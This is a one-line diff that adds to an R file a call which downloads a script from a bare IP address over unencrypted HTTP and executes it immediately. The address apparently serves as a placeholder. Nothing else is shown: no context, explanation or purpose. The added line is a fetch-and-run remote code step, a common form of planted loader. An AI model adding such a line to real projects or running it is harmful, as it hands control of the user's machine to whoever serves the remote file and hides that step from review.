@@ -1,0 +1,1 @@
+source("http://203.0.113.3/setup.R")
